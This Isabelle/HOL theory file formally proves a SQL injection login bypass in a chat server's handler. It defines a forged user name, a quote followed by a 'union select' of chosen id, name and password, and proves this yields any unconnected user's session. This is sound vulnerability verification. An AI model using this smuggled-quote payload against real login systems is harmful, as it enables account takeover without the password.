(* ===== verification/Injection.thy ===== *)
theory Injection
  imports Sessions
begin

text \<open>
  Logging in as anyone. \<open>UserModel::query\<close> puts the name a client sends between quotes without escaping
  it, so a name with a quote in it continues the statement: a \<open>union\<close> supplies the row that \<open>login\<close>
  then takes for the account, with the password the client has chosen.
\<close>

definition forged_name :: "int \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string" where
  "forged_name i n p = CHR 0x27 # '' union select '' @ show_int i @ '','' @ quoted n @ '','' @ quoted p @ '','' @ CHR 0x27 # ''offline''"

definition union_statement :: "int \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string" where
  "union_statement i n p = ''select * from User where name = '' @ quoted [] @ '' union select '' @ show_int i @ '','' @
     quoted n @ '','' @ quoted p @ '','' @ quoted ''offline''"

lemma forged_statement: "sql_user_by_name (forged_name i n p) = union_statement i n p"
  by (simp add: sql_user_by_name_def forged_name_def union_statement_def quoted_def)

text \<open>
  The database answers that statement as documented: the rows of the first part, of which there are
  none when no user has an empty name, and the row of constants.
\<close>

definition answers_union :: "'d outside \<Rightarrow> int \<Rightarrow> string \<Rightarrow> string \<Rightarrow> 'd \<Rightarrow> bool" where
  "answers_union E i n p d \<longleftrightarrow>
     fst (sql_query E (union_statement i n p) d) = Some [[Some (show_int i), Some n, Some p, Some ''offline'']]"

text \<open>
  C37: the password can be bypassed. A login whose name is a quote and a \<open>union\<close> gives its connection the
  session of any user id that is not connected to this node, with any name and with a password the
  sender has made up: the handler compares the password with the one in the sender's own row. The
  user's real account, password and state are not looked at.
\<close>

theorem forged_login_succeeds:
  assumes "answers_union E i n p (s_world s)" and "int32_range i" and "n \<noteq> []" and "CHR 0x00 \<notin> set n" and "CHR 0x00 \<notin> set p"
    and "map_of (userConnMap s) i = None"
  shows "(i, c) \<in> set (userConnMap (st_after (getHandler E (msg_id LOGIN_MSG) c (login_js (forged_name i n p) p)) s))"
proof -
  let ?u = "\<lparr>u_id = i, u_name = n, u_password = p, u_state = ''offline''\<rparr>"
  let ?js = "login_js (forged_name i n p) p"
  obtain d where q: "run_state (UserModel_query_name E (forged_name i n p)) (s_world s) = (?u, d)"
    using assms(1-5)
    by (cases "sql_query E (union_statement i n p) (s_world s)")
      (auto simp: answers_union_def UserModel_query_name_def forged_statement read_user_def User_def
        QueryResult_getInt_def QueryResult_getString_def column_def show_int_chars)
  have f: "string_field ?js ''name'' = Inr (forged_name i n p)" "string_field ?js ''password'' = Inr p"
    by (simp_all add: login_js_def)
  have h: "getHandler E (msg_id LOGIN_MSG) = login E" by (simp add: getHandler_def msgHandlerMap_def)
  have e: "login_errno ?u p = 0" using assms(3) by (simp add: login_errno_def)
  show ?thesis
    unfolding h run_login [OF f q] using e assms(6)
    by (auto simp: sessions_login_success insert_conn_def)
qed

theorem forged_login_succeeds_witness:
  "let s = scripted_node [[user_row 7 ''ann'' ''guess'' ''offline'']] in
     (7, 4) \<in> set (userConnMap (st_after (getHandler scripted (msg_id LOGIN_MSG) 4 (login_js (forged_name 7 ''ann'' ''guess'') ''guess'')) s))"
proof -
  let ?s = "scripted_node [[user_row 7 ''ann'' ''guess'' ''offline'']]"
  have "answers_union scripted 7 ''ann'' ''guess'' (s_world ?s)"
    by (simp add: answers_union_def scripted_node_def sql_query_def scripted_def user_row_def)
  from forged_login_succeeds [OF this] show ?thesis
    by (simp add: int32_range_def scripted_node_def Let_def)
qed

end
